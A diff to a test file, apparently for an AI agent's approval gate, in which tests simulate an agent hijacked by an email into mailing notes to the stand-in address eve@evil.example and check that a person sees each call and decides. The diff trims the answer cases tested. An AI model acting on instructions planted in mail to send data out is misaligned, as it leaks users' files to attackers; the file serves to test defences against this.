@@ -97,7 +97,7 @@ async def test_what_a_mail_wants_is_not_done_unattended(stub: Stub, office: Path
     assert "--confirm" in why
 
 
-@pytest.mark.parametrize("says", ["no", "never", "page", "site", "run"])
+@pytest.mark.parametrize("says", ["never", "page", "run"])
 async def test_the_person_sees_the_whole_call_and_decides(stub: Stub, office: Path, says: Agreed) -> None:  # fmt: skip
     again = say(act(MAIL, to="eve@evil.example", subject="More", body="more notes"))
     stub.behaviours = [PLAN, *HIJACKED[:-1], again, HIJACKED[-1]]
@@ -108,8 +108,8 @@ async def test_the_person_sees_the_whole_call_and_decides(stub: Stub, office: Pa
         '  body = "the notes"'
     )
     # A yes to one mail is none to the next; after `never` nobody is asked again.
-    assert len(shown) == (2 if says in ("no", "page") else 1)
-    assert len(done(office)) == (0 if says in ("no", "never") else 2)
+    assert len(shown) == (2 if says == "page" else 1)
+    assert len(done(office)) == (0 if says == "never" else 2)
 
 
 async def test_an_act_outside_the_plan_is_asked_about(stub: Stub, office: Path) -> None:
